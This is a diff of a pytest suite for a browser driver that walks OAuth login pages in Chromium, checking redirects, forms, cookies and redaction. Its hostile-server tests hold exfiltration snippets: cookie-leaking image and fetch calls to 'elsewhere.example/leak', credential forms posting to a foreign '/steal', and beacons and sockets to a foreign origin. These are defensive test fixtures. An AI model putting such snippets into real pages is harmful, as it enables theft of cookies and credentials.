@@ -1,206 +1,499 @@
-"""The browser driver in the system's Chromium, on small servers whose pages need script."""
+"""The browser driver in a real Chromium: what pages do by script is seen, and nothing reaches another server."""
 
+import asyncio
 import os
+import time
 from collections.abc import Callable, Iterator
 from typing import Any
 
 import pytest
 
-from grantproof.errors import GrantproofError, Inconclusive
-from grantproof.login import Chromium, Journey, UserAgent
+from grantproof.errors import Inconclusive
 from grantproof.login.browser import BrowserDriver
-from grantproof.login.chromium import NAMES, find_chromium
+from grantproof.login.chromium import absence
+from grantproof.login.journey import MAX_HOPS, Journey, LoginStuckError, UserAgent
+from grantproof.login.windows import Windows
 from grantproof.profile.signing_in import LoginStep
 from grantproof.transport import Recorder, Redactor, Transport
 from grantproof.wire.request import Request
 from tests.unit.login.server import Heard, Pages, Reply, Site, redirect, serve
 
 CALLBACK = "https://app.example/cb"
-DONE = f"{CALLBACK}#access_token=t0ken&state=a%2Bb"
-STEP = {"when": "form#login", "fill": {"username": "alice", "password": "pa55word"}, "submit": "button"}
+DONE = f"{CALLBACK}#access_token=t0ken&state=a%20b"
+SIGN_IN = {"fill": {"username": "alice", "password": "pa55word"}}
+LOGIN = '<form id="login" action="/login" method="post"><input name="username"><input type="password" name="password">'
+
+pytestmark = pytest.mark.skipif(
+    bool(absence()[0]) and os.environ.get("GRANTPROOF_REQUIRE_CHROMIUM") != "1",
+    reason="no Chromium is installed (GRANTPROOF_REQUIRE_CHROMIUM=1 makes this a failure)",
+)
 
 
 @pytest.fixture(scope="module")
-def chromium() -> Iterator[Chromium]:
-    try:
-        find_chromium()
-    except GrantproofError as problem:
-        if os.environ.get("GRANTPROOF_REQUIRE_CHROMIUM"):
-            raise
-        pytest.skip(str(problem))
-    started = Chromium()
-    yield started
-    started.close()
+def windows() -> Iterator[Windows]:
+    """One Chromium for the module."""
+    assert absence() == ("", "")
+    opened = Windows()
+    yield opened
+    opened.close()
 
 
-Walk = Callable[..., Journey]
+class Walker:
+    """Walks with one browser; keeps what was recorded."""
+
+    def __init__(self, windows: Windows) -> None:
+        self.windows = windows
+        self.recorder = Recorder(Redactor(["pa55word"]))
+
+    def driver(
+        self, site: Site, *steps: dict[str, Any], origins: tuple[str, ...] = (), timeout_s: float = 5
+    ) -> BrowserDriver:
+        """A driver for a site."""
+        self.transport = Transport(self.recorder, timeout_s=timeout_s)
+        made = [LoginStep.model_validate(step) for step in steps]
+        return BrowserDriver(self.transport, made, {site.origin, *origins}, self.windows)
+
+    def __call__(self, site: Site, *steps: dict[str, Any], agent: UserAgent | None = None, **options: Any) -> Journey:
+        """Where a walk ends."""
+        kept = {name: options.pop(name) for name in ("origins", "timeout_s") if name in options}
+        driver = self.driver(site, *steps, **kept)
+        with self.transport:
+            journey: Journey = driver.walk(
+                Request("GET", f"{site.origin}/authorize?x=1"), agent or UserAgent(), **options
+            )
+        return journey
 
 
 @pytest.fixture
-def walk(chromium: Chromium) -> Walk:
-    def go(site: Site, *steps: dict[str, Any], agent: UserAgent | None = None, **options: Any) -> Journey:
-        transport = Transport(Recorder(Redactor(["pa55word"])), timeout_s=5)
-        driver = BrowserDriver(transport, [LoginStep.model_validate(each) for each in steps], {site.origin}, chromium)
-        with transport:
-            return driver.walk(Request("GET", f"{site.origin}/authorize?x=1"), agent or UserAgent(), **options)
-
-    return go
+def walk(windows: Windows) -> Walker:
+    return Walker(windows)
 
 
-def page(body: str, *headers: tuple[str, str]) -> Callable[[Heard], Reply]:
-    return lambda _heard: Reply(f"<!doctype html><title>Sign in</title>{body}", headers=headers)
+Answering = Callable[[Heard], Reply]
 
 
-RENDERED = """<div id="root"></div><script>
-setTimeout(() => {
-  document.getElementById("root").innerHTML = `<form id="login"><input name="username">
-    <input name="password" type="password"><button type="button">Go</button></form>`;
-  document.querySelector("button").onclick = async () => {
-    const value = (name) => document.querySelector(`[name=${name}]`).value;
-    const answer = await fetch("/api/login", {method: "POST", headers: {"Content-Type": "application/json"},
-      body: JSON.stringify({user: value("username"), password: value("password")})});
-    const told = await answer.json();
-    location.href = told.next;
-  };
-}, 100);
-</script>"""
+def page(body: str, *headers: tuple[str, str]) -> Answering:
+    return lambda _heard: Reply(f"<!doctype html><title>Sign in</title>{body}", 200, headers)
 
 
-def api(heard: Heard) -> Reply:
-    good = '"password":"pa55word"' in heard.body
-    headers = (("Content-Type", "application/json"), ("Set-Cookie", "sid=opened; Path=/; HttpOnly"))
-    return Reply(f'{{"next": "{"/resume" if good else "/authorize?x=1"}"}}', headers=headers)
+def done(_heard: Heard) -> Reply:
+    return redirect(DONE)
 
 
-def resume(heard: Heard) -> Reply:
-    return redirect(DONE) if "sid=opened" in heard.cookie else Reply("<title>No session</title>", 403)
+def script(text: str) -> Answering:
+    return lambda _heard: Reply(text, 200, (("Content-Type", "text/javascript"),))
 
 
-def test_a_login_that_scripts_render_ends_at_the_client_with_its_fragment(walk: Walk) -> None:
-    agent = UserAgent()
-    with serve({"/authorize": page(RENDERED), "/api/login": api, "/resume": resume}) as site:
-        journey = walk(site, STEP, agent=agent)
-    assert journey.redirect is not None
-    assert (journey.redirect.kind, journey.redirect.url) == ("3xx", DONE)
-    assert journey.acted == ["form#login"]
-    assert agent.jar.named("sid") == "opened"
-    assert site.paths == ["GET /authorize", "POST /api/login", "GET /resume"]
+def data(text: str, *headers: tuple[str, str]) -> Answering:
+    return lambda _heard: Reply(text, 200, (("Content-Type", "application/json"), *headers))
 
 
-def test_a_session_is_shared_with_plain_requests(walk: Walk) -> None:
-    agent = UserAgent()
-    pages: Pages = {"/authorize": resume, "/resume": resume}
-    with serve({**pages, "/authorize": page(RENDERED), "/api/login": api}) as site:
-        walk(site, STEP, agent=agent)
-        header = agent.jar.header(f"{site.origin}/authorize")
-    assert header == "sid=opened"
+# Redirections that pages make.
+
+FIELDS = '<input name="access_token" value="t0ken"><input name="state" value="a b+&=">'
+LEAVING = {
+    "script": (f"<script>location.href = '{DONE}'</script>", "script", DONE),
+    "built": (f"<script>location.assign(['{CALLBACK}', 'access_token=t0ken'].join('#'))</script>", "script", None),
+    "onload": (f"<body onload=\"location.replace('{DONE}')\">", "script", DONE),
+    "late": (f"<script>setTimeout(() => {{ location = '{DONE}' }}, 5000)</script>", "script", DONE),
+    "clicked link": (f"<a id=go href='{DONE}'></a><script>go.click()</script>", "script", DONE),
+    "custom scheme": ("<script>location = 'com.example.app:/cb#access_token=t'</script>", "script",
+                      "com.example.app:/cb#access_token=t"),
+    "port 9": ("<script>location = 'http://127.0.0.1:9/cb#access_token=t'</script>", "script",
+               "http://127.0.0.1:9/cb#access_token=t"),
+    "meta": (f"<meta http-equiv=refresh content='0;url={DONE}'>", "meta", DONE),
+    "late meta": (f"<meta http-equiv=refresh content='30;url={DONE}'>", "meta", DONE),
+    "written meta": (f"<script>document.write(\"<meta http-equiv=refresh content='0;url={DONE}'>\")</script>",
+                     "meta", DONE),
+}  # fmt: skip
 
 
-JOINED = f'const x = "{CALLBACK}"; location.assign(x + "#" + ["access_token=t0ken", "state=a%2Bb"].join("&"))'
-POSTED = f"""const form = document.createElement("form"); form.method = "POST"; form.action = "{CALLBACK}";
-form.innerHTML = '<input name="access_token" value="t0ken">'; document.body.append(form); form.submit()"""
-
-
-@pytest.mark.parametrize(
-    ("script", "kind", "url"),
-    [
-        (f'location.href = "{DONE}"', "script", DONE),
-        (JOINED, "script", DONE),
-        (f'setTimeout(() => location.replace("{DONE}"), 200)', "script", DONE),
-        (f'document.write(`<meta http-equiv="refresh" content="0; url={DONE}">`)', "script", DONE),
-        (POSTED, "form_post", CALLBACK),
-    ],
-)
-@pytest.mark.parametrize("stop_at_pages", [False, True])
-def test_where_a_script_leads_is_read_and_not_loaded(
-    walk: Walk, script: str, kind: str, url: str, *, stop_at_pages: bool
+@pytest.mark.parametrize("how", LEAVING)
+@pytest.mark.parametrize("steps", [(), (SIGN_IN,)], ids=["no steps", "steps"])
+def test_a_page_that_goes_to_the_client_is_seen_with_its_fragment(
+    walk: Walker, how: str, steps: tuple[dict[str, Any], ...]
 ) -> None:
-    with serve({"/authorize": page(f"<body><script>{script}</script>")}) as site:
-        journey = walk(site, leave_at=(CALLBACK,), stop_at_pages=stop_at_pages)
+    body, kind, url = LEAVING[how]
+    with serve({"/authorize": page(body)}) as site:
+        journey = walk(site, *steps, leave_at=[CALLBACK], stop_at_pages=not steps)
     assert journey.redirect is not None
-    assert (journey.redirect.kind, journey.redirect.url) == (kind, url)
+    assert (journey.redirect.kind, journey.redirect.url) == (kind, url or f"{CALLBACK}#access_token=t0ken")
+    assert journey.redirect.status == 200
     assert journey.page is None
-    if kind == "form_post":
-        assert journey.redirect.form is not None
-        assert journey.redirect.form.pairs == (("access_token", "t0ken"),)
     assert site.paths == ["GET /authorize"]
 
 
-def test_a_script_that_only_mentions_the_client_goes_nowhere(walk: Walk) -> None:
-    script = f'<script>function never() {{ location.href = "{DONE}"; }}</script><p>Error</p>'
-    with serve({"/authorize": page(script)}) as site:
-        journey = walk(site, leave_at=(CALLBACK,))
-    assert journey.redirect is None
-    assert journey.page is not None
-
-
-def test_pages_without_script_are_walked_as_forms(walk: Walk) -> None:
-    form = '<form id="login" action="/login" method="post"><input name="username"><input name="password"><button>Go'
-    with serve({"/authorize": page(form), "/login": lambda _: redirect(DONE)}) as site:
-        journey = walk(site, STEP)
+@pytest.mark.parametrize(("method", "url"), [("post", CALLBACK), ("get", CALLBACK), ("post", "http://127.0.0.1:9/cb")])
+def test_a_form_that_submits_itself_is_read_and_never_sent(walk: Walker, method: str, url: str) -> None:
+    body = f'<form method="{method}" action="{url}">{FIELDS}</form><script>document.forms[0].submit()</script>'
+    with serve({"/authorize": page(body)}) as site:
+        journey = walk(site)
     assert journey.redirect is not None
-    assert site.sent("/login").form == {"username": ["alice"], "password": ["pa55word"]}
+    assert (journey.redirect.kind, journey.redirect.url) == ("form_post", url)
+    assert journey.redirect.method.lower() == method
+    assert journey.redirect.form is not None
+    assert journey.redirect.form.pairs == (("access_token", "t0ken"), ("state", "a b+&="))
 
 
-def test_a_form_on_a_page_with_script_is_filled_and_sent(walk: Walk) -> None:
-    form = """<script>document.cookie = "seen=yes; path=/"</script>
-      <form id="login" action="/login" method="post"><input name="username"><input name="password" type="password">
-      <select name="realm"><option value="a">A</option><option value="b">B</option></select>
-      <input type="checkbox" name="stay" value="1"><input type="hidden" name="csrf" value="c5rf">
-      <button name="act" value="no" type="submit">No</button><button name="act" value="yes" type="submit">Yes</button>
-      </form>"""
-    step = {**STEP, "fill": {**STEP["fill"], "realm": "b", "stay": "on"}, "submit": "button[value=yes]"}  # type: ignore[dict-item]
-    with serve({"/authorize": page(form), "/login": lambda _: redirect(DONE)}) as site:
-        journey = walk(site, step)
+def test_a_3xx_needs_no_browser(walk: Walker) -> None:
+    with serve({"/authorize": done}) as site:
+        started = walk.windows.chromium.generation
+        agent = UserAgent()
+        journey = walk(site, agent=agent)
     assert journey.redirect is not None
-    sent = site.sent("/login")
-    wanted = {"username": "alice", "password": "pa55word", "realm": "b", "stay": "1", "csrf": "c5rf", "act": "yes"}
-    assert sent.form == {name: [value] for name, value in wanted.items()}
-    assert "seen=yes" in sent.cookie
+    assert (journey.redirect.kind, journey.redirect.url, journey.redirect.status) == ("3xx", DONE, 302)
+    assert agent.window is None
+    assert walk.windows.chromium.generation == started
+
+
+def test_a_redirection_uri_on_the_servers_own_origin_is_never_loaded(walk: Walker) -> None:
+    pages: Pages = {
+        "/authorize": page(
+            "<iframe src='/app/cb?silent=1'></iframe><script>fetch('/app/cb').finally(() => location = '/app/cb#t=1')"
+            "</script>"
+        )
+    }
+    with serve(pages) as site:
+        journey = walk(site, leave_at=[f"{site.origin}/app/cb"])
+    assert site.paths == ["GET /authorize"]
+    assert journey.redirect is not None
+    assert journey.redirect.url == f"{site.origin}/app/cb#t=1"
 
 
 @pytest.mark.parametrize(
-    "script",
+    "body",
     [
-        "alert(1); confirm(2); prompt(3)",
-        'window.open("/popup")',
-        "for (;;) {}",
-        'new Image().src = "https://elsewhere.example/leak?" + document.cookie',
-        'fetch("https://elsewhere.example/leak", {method: "POST", body: "x"})',
-        'setInterval(() => history.pushState(1, "", "/x" + Math.random()), 10)',
-        'navigator.serviceWorker.register("/worker.js")',
-        'window.onbeforeunload = () => "stay"',
-        'document.body.innerHTML = "x".repeat(5e6)',
+        "<p>Something is wrong with this request.",
+        f"<noscript><meta http-equiv=refresh content='0;url={DONE}'></noscript><p>Hello<script>1</script>",
+        f"<a href='{DONE}'>go on</a>",
+        f"<form action='{DONE}'><button>go on</button></form>",
+        f"<script>const text = \"location = '{DONE}'\"</script>",
+        f"<script>if (false) location = '{DONE}'</script>",
+        "<script>location.hash = 'x'; history.pushState({}, '', '/elsewhere')</script>",
+        "<script>setInterval(() => 1, 1)</script>",
+        f"<iframe src='{DONE}'></iframe>",
+        f"<script>window.open('{DONE}')</script>",
+    ],
+    ids=["plain", "noscript", "link", "form", "text", "branch", "history", "interval", "frame", "popup"],
+)
+def test_a_page_that_stays_is_no_redirection(walk: Walker, body: str) -> None:
+    with serve({"/authorize": page(body)}) as site:
+        journey = walk(site, {"when": "#nothing"}, leave_at=[CALLBACK])
+    assert journey.redirect is None
+    assert journey.page is journey.steps[-1]
+    assert site.paths == ["GET /authorize"]
+    assert "'#nothing' matches nothing on it" in journey.diagnosis
+
+
+# Logins.
+
+
+def test_a_login_and_a_consent_as_plain_forms(walk: Walker) -> None:
+    pages: Pages = {
+        "/authorize": page(f'{LOGIN}<input type=hidden name=csrf value="a&amp;b"><button>go</button></form>'),
+        "/login": lambda _: redirect("/consent", 303, ("Set-Cookie", "sid=s3ssion; Path=/; HttpOnly")),
+        "/consent": page(
+            "<form class=consent method=post action=/decide><button name=d value=yes>y</button>"
+            "<button name=d value=no>n</button></form>"
+        ),
+        "/decide": lambda heard: redirect(f"{CALLBACK}#{heard.form['d'][0]}"),
+    }
+    steps = (
+        {"when": "form#login", **SIGN_IN},
+        {"when": ".consent", "choice": "allow", "submit": "button[value=yes]"},
+        {"when": ".consent", "choice": "deny", "submit": "button[value=no]"},
+    )
+    agent = UserAgent()
+    with serve(pages) as site:
+        journey = walk(site, *steps, agent=agent, choice="deny")
+    assert site.sent("/login").form == {"username": ["alice"], "password": ["pa55word"], "csrf": ["a&b"]}
+    assert site.sent("/consent").cookie == "sid=s3ssion"
+    assert site.paths == ["GET /authorize", "POST /login", "GET /consent", "POST /decide"]
+    assert journey.acted == ["form#login", ".consent"]
+    assert journey.redirect is not None
+    assert (journey.redirect.kind, journey.redirect.url) == ("3xx", f"{CALLBACK}#no")
+    assert agent.jar.named("sid") == "s3ssion"
+
+
+SPA = """
+    const root = document.getElementById('app');
+    fetch('/api/state?' + location.search.slice(1)).then(answer => answer.json()).then(state => {
+        root.innerHTML = '<div><input name=username><button id=next>next</button></div>';
+        root.querySelector('#next').onclick = () => {
+            const user = root.querySelector('[name=username]').value;
+            root.innerHTML = '<div><input type=password id=secret><button id=in>in</button></div>';
+            root.querySelector('#in').onclick = async () => {
+                const sent = {user, secret: root.querySelector('#secret').value, ticket: state.ticket};
+                document.cookie = 'seen=1; path=/';
+                const answer = await fetch('/api/auth', {method: 'POST', body: JSON.stringify(sent),
+                    headers: {'Content-Type': 'application/json', 'X-Csrf': state.ticket}});
+                location.href = (await answer.json()).next;
+            };
+        };
+    });
+"""
+
+
+def test_a_single_page_login(walk: Walker) -> None:
+    pages: Pages = {
+        "/authorize": lambda _: redirect("/spa?id=7"),
+        "/spa": page('<div id=app></div><script src="/spa.js"></script>'),
+        "/spa.js": script(SPA),
+        "/api/state": data('{"ticket": "t1"}'),
+        "/api/auth": data('{"next": "/resume"}', ("Set-Cookie", "sid=s3ssion; Path=/")),
+        "/resume": page(f"<script>location.replace('{DONE}')</script>"),
+    }
+    steps = (
+        {"when": "#next", "fill": {"username": "alice"}, "submit": "#next"},
+        {"when": "#secret", "fill": {"secret": "pa55word"}, "submit": "button:has-text('in')"},
+    )
+    agent = UserAgent()
+    with serve(pages) as site:
+        journey = walk(site, *steps, agent=agent)
+    assert site.sent("/api/state").query == {"id": ["7"]}
+    assert site.sent("/api/auth").body == '{"user":"alice","secret":"pa55word","ticket":"t1"}'
+    assert site.sent("/resume").cookie in {"sid=s3ssion; seen=1", "seen=1; sid=s3ssion"}
+    assert journey.acted == ["#next", "#secret"]
+    assert journey.redirect is not None
+    assert (journey.redirect.kind, journey.redirect.url) == ("script", DONE)
+    assert (agent.jar.named("sid"), agent.jar.named("seen")) == ("s3ssion", "1")
+    assert "pa55word" not in str(walk.recorder.take())
+
+
+def test_calls_and_goto_work_as_in_forms(walk: Walker) -> None:
+    pages: Pages = {
+        "/authorize": lambda _: redirect("/spa?callback=%2Fresume%3Fid%3D7"),
+        "/spa": page("<div id=app></div>"),
+        "/api/auth": data('{"next": "n"}'),
+        "/resume": done,
+    }
+    step = {
+        "when": "url~/spa",
+        "calls": [{"url": "/api/auth", "json": {"p": "pa55word"}}],
+        "goto": "{query.callback}&next={json.next}",
+    }
+    with serve(pages) as site:
+        journey = walk(site, step)
+    assert site.sent("/resume").query == {"id": ["7"], "next": ["n"]}
+    assert journey.redirect is not None
+
+
+def test_every_kind_of_field(walk: Walker) -> None:
+    body = """<form method=post action=/next><input type=checkbox name=stay value=1>
+        <input type=checkbox name=on checked>
+        <input type=radio name=r value=a checked><input type=radio name=r value=b>
+        <select name=realm><option value=x>X<option value=y>Y</select><textarea name=note></textarea>
+        <input type=hidden name=h value=0><button name=act value=one>1</button><button name=act value=two>2</button>
+        </form>"""
+    fill = {"stay": "1", "on": "", "r": "b", "realm": "y", "note": "n", "h": "9", "absent": "z"}
+    with serve({"/authorize": page(body), "/next": done}) as site:
+        walk(site, {"fill": fill})
+    assert site.sent("/next").form == {
+        "stay": ["1"], "r": ["b"], "realm": ["y"], "note": ["n"], "h": ["9"], "act": ["one"],
+    }  # fmt: skip
+
+
+def test_a_link_that_a_step_activates_may_lead_to_the_client(walk: Walker) -> None:
+    pages: Pages = {"/authorize": page(f"<a class=no href='{DONE}'>Cancel</a>")}
+    with serve(pages) as site:
+        journey = walk(site, {"submit": "a.no", "when": "a.no"}, leave_at=[CALLBACK])
+    assert journey.redirect is not None
+    assert (journey.redirect.kind, journey.redirect.url) == ("link", DONE)
+
+
+def test_cookies_are_shared_both_ways(walk: Walker) -> None:
+    body = "<p id=seen></p><script>seen.textContent = document.cookie; document.cookie = 'b=2; path=/'</script>"
+    pages: Pages = {
+        "/authorize": lambda _: Reply(
+            f"<title>t</title>{body}<a id=go href='/next'>go</a>", 200, (("Set-Cookie", "h=1; HttpOnly; Path=/"),)
+        ),
+        "/next": done,
+    }
+    agent = UserAgent()
+    with serve(pages) as site:
+        transport = Transport(Recorder(Redactor([])))
+        with transport:
+            transport.send(Request("GET", f"{site.origin}/authorize"), agent.jar)
+        walk(site, {"when": "#seen:has-text('')", "submit": "#go"}, agent=agent)
+    assert sorted(site.sent("/next").cookie.split("; ")) == ["b=2", "h=1"]
+    assert agent.jar.named("b") == "2"
+
+
+def test_a_wrong_password_is_given_up_with_a_diagnosis(walk: Walker) -> None:
+    again = Reply(f"<title>Sign in again</title>{LOGIN}</form>", 401)
+    with (
+        serve({"/authorize": page(f"{LOGIN}</form>"), "/login": lambda _: again}) as site,
+        pytest.raises(LoginStuckError) as ending,
+    ):
+        walk(site, {"when": "form#login", **SIGN_IN})
+    said = str(ending.value)
+    assert "the login step 'form#login' comes again and again" in said
+    assert "status 401, title 'Sign in again', form#login with username (text), password (password)" in said
+    assert "pa55word" not in said
+
+
+@pytest.mark.parametrize(
+    ("step", "words"),
+    [
+        (
+            {"when": "p", "submit": "button.go"},
+            "finds no 'button.go' on its page (status 200, title 'Sign in', no",
+        ),
+        ({"when": "p"}, "finds no form on its page"),
+        ({"when": "p", "fill": {"user": "x"}}, "finds none of the fields user on its page"),
     ],
 )
-def test_a_hostile_page_ends_the_journey_and_reaches_nobody(walk: Walk, script: str) -> None:
-    with serve({"/authorize": page(f"<body><p>hello</p><script>{script}</script>")}) as site:
-        journey = walk(site, STEP)
-    assert journey.redirect is None
-    assert journey.page is not None
-    assert set(site.paths) <= {"GET /authorize", "GET /popup", "GET /worker.js"}
-
-
-def test_a_wrong_password_is_told(walk: Walk) -> None:
-    wrong = {**STEP, "fill": {"username": "alice", "password": "wrong"}}
-    with serve({"/authorize": page(RENDERED), "/api/login": api}) as site, pytest.raises(Inconclusive) as ending:
-        walk(site, wrong)
-    assert "are the user's name and password right?" in str(ending.value)
-
-
-def test_a_button_that_is_not_there_is_told(walk: Walk) -> None:
-    step = {**STEP, "submit": "button.missing"}
-    with serve({"/authorize": page(RENDERED)}) as site, pytest.raises(Inconclusive) as ending:
+def test_a_step_that_cannot_act_says_what_the_page_is(walk: Walker, step: dict[str, Any], words: str) -> None:
+    with serve({"/authorize": page("<p>hello")}) as site, pytest.raises(LoginStuckError) as ending:
         walk(site, step)
-    assert "finds no button 'button.missing'" in str(ending.value)
+    assert words in str(ending.value)
+    assert ending.value.page is not None
 
 
-def test_no_browser_is_a_profile_error(monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.delenv("GRANTPROOF_CHROMIUM", raising=False)
-    monkeypatch.setenv("PATH", "/nonexistent")
-    with pytest.raises(GrantproofError, match="no Chromium is on the PATH"):
-        find_chromium()
-    monkeypatch.setenv("GRANTPROOF_CHROMIUM", "/nonexistent/chromium")
-    with pytest.raises(GrantproofError, match="/nonexistent/chromium is no program"):
-        find_chromium()
-    assert "chromium" in NAMES
+def test_a_selector_that_no_browser_knows_is_said(walk: Walker) -> None:
+    with serve({"/authorize": page("<p>hello")}) as site:
+        journey = walk(site, {"when": "p:nonsense(("})
+    assert "cannot be looked for" in journey.diagnosis
+
+
+# A hostile server.
+
+CREDENTIALS = [
+    '<form method="post" action="{}/steal"><input name="username"><input name="password"><button></button></form>',
+    '<form action="{}/steal"><input name="username"><input name="password"><button></button></form>',
+]
+
+
+@pytest.mark.parametrize("body", CREDENTIALS, ids=["post", "get"])
+def test_no_credential_is_sent_to_another_server(walk: Walker, body: str) -> None:
+    with serve({}) as foreign:
+        form = body.replace("{}", foreign.origin)
+        with serve({"/authorize": page(form)}) as site, pytest.raises(Inconclusive, match="would leave the server"):
+            walk(site, SIGN_IN)
+    assert foreign.heard == []
+
+
+def test_scripts_cannot_send_anything_to_another_server(walk: Walker) -> None:
+    with serve({}) as foreign:
+        theft = f"""<p id=p></p><img src={foreign.origin}/img><link rel=preconnect href={foreign.origin}>
+            <script src={foreign.origin}/x.js></script><iframe src={foreign.origin}/frame></iframe><script>
+            fetch('{foreign.origin}/fetch', {{mode: 'no-cors'}}).catch(() => 0);
+            navigator.sendBeacon('{foreign.origin}/b');
+            new WebSocket('{foreign.origin.replace("http", "ws")}/ws'); window.open('{foreign.origin}/popup');
+            new EventSource('{foreign.origin}/es'); new Image().src = '{foreign.origin}/img2';
+            try {{ new Worker('{foreign.origin}/w.js') }} catch (e) {{}}
+            document.addEventListener('click', () => window.open('{foreign.origin}/clicked'));
+            </script><button id=go onclick="location = '/next'">go</button>"""
+        with serve({"/authorize": page(theft), "/next": done}) as site:
+            journey = walk(site, {"when": "#go", "submit": "#go"})
+    assert foreign.heard == []
+    assert journey.redirect is not None
+
+
+def test_a_script_that_never_ends_is_inconclusive_and_the_browser_comes_back(walk: Walker) -> None:
+    began = time.monotonic()
+    with serve({"/authorize": page("<script>while (true) {}</script>")}) as site, pytest.raises(Inconclusive) as ending:
+        walk(site, SIGN_IN, timeout_s=1)
+    assert "cannot be shown" in str(ending.value)
+    assert time.monotonic() - began < 60
+    with serve({"/authorize": page(f"<script>location = '{DONE}'</script>")}) as site:
+        assert walk(site).redirect is not None
+
+
+NUISANCES = {
+    "dialogs": "for (let i = 0; i < 5; i++) { alert(i); confirm(i); prompt(i) }",
+    "pop-ups": "for (let i = 0; i < 50; i++) window.open('/authorize')",
+    "print": "window.print()",
+    "unload": "onbeforeunload = () => 'stay'",
+    "download": "const a = document.createElement('a'); a.href = 'data:,x'; a.download = 'x'; a.click()",
+    "requests": "(async () => { for (;;) await fetch('/more').catch(() => 0) })()",
+    "growth": "setInterval(() => document.body.append('x'.repeat(1000)), 1)",
+    "poisoned": "document.querySelector = Array.prototype.find = JSON.parse = () => { throw 1 }",
+    "worker": "try { new Worker('/w.js'); navigator.serviceWorker.register('/sw.js') } catch (e) {}",
+}
+
+
+@pytest.mark.parametrize("nuisance", NUISANCES)
+def test_a_nuisance_does_not_stop_a_login(walk: Walker, nuisance: str) -> None:
+    body = f"{LOGIN}<button>go</button></form><script>{NUISANCES[nuisance]}</script>"
+    with serve({"/authorize": page(body), "/login": done, "/more": data("1")}) as site:
+        journey = walk(site, SIGN_IN, timeout_s=2)
+    assert journey.redirect is not None
+    assert journey.redirect.url == DONE
+
+
+def test_pages_that_never_end_are_given_up(walk: Walker) -> None:
+    reload = page("<script>location = '/authorize?' + Math.random()</script>")
+    with serve({"/authorize": reload}) as site, pytest.raises(Inconclusive, match="redirects without end"):
+        walk(site)
+    assert len(site.heard) == MAX_HOPS
+
+
+# The run around it.
+
+
+def test_a_session_is_kept_and_users_are_apart(walk: Walker) -> None:
+    def authorize(heard: Heard) -> Reply:
+        return redirect(DONE) if "sid=s3ssion" in heard.cookie else Reply(f"{LOGIN}</form>")
+
+    pages: Pages = {
+        "/authorize": authorize,
+        "/login": lambda _: redirect("/authorize", 302, ("Set-Cookie", "sid=s3ssion; Path=/; HttpOnly")),
+    }
+    alice, bob = UserAgent(), UserAgent("user2")
+    with serve(pages) as site:
+        assert walk(site, SIGN_IN, agent=alice).acted == ["step 1"]
+        assert walk(site, SIGN_IN, agent=alice).acted == []
+        assert walk(site, agent=bob).page is not None
+
+
+def test_many_user_agents_share_few_windows(walk: Walker) -> None:
+    agents = [UserAgent() for _ in range(6)]
+    with serve({"/authorize": page("<p>hello")}) as site:
+        for agent in (*agents, agents[0]):
+            assert walk(site, agent=agent).page is not None
+    assert sum(agent.window is not None for agent in agents) == 4
+
+
+def test_every_answer_is_recorded_redacted(walk: Walker) -> None:
+    pages: Pages = {
+        "/authorize": page(f"{LOGIN}</form><script src=/x.js></script>"),
+        "/x.js": script("1"),
+        "/login": done,
+    }
+    with serve(pages) as site:
+        walk(site, SIGN_IN)
+    seen = walk.recorder.take()
+    urls = [exchange["request"]["url"].removeprefix(site.origin) for exchange in seen]
+    assert urls == ["/authorize?x=1", "/x.js", "/login"]
+    assert "pa55word" not in str(seen)
+    assert "t0ken" not in str(seen)
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        "<form method=post action=/c><button name=d value=yes></button></form>",
+        "<button id=y onclick=\"fetch('/c', {method: 'POST', body: 'd=yes'})\">y</button>",
+    ],
+)
+def test_a_consent_is_made_and_not_sent(walk: Walker, body: str) -> None:
+    selector = "[value=yes]" if "form" in body else "#y:visible"
+    with serve({"/authorize": page(body)}) as site:
+        driver = walk.driver(site, {"when": "button", "choice": "allow", "submit": selector})
+        shown = walk(site, stop_at_pages=True).page
+        assert shown is not None
+        with walk.transport:
+            request = driver.submission(shown, "allow")
+            assert driver.submission(shown, "deny") is None
+    assert request is not None
+    assert (request.method, request.url, request.body) == ("POST", f"{site.origin}/c", b"d=yes")
+    assert site.paths == ["GET /authorize"]
+
+
+def test_another_event_loop_is_not_met(walk: Walker) -> None:
+    async def inside() -> Journey:
+        return walk(site, SIGN_IN)
+
+    with serve({"/authorize": page(f"{LOGIN}</form>"), "/login": done}) as site:
+        assert asyncio.run(inside()).redirect is not None
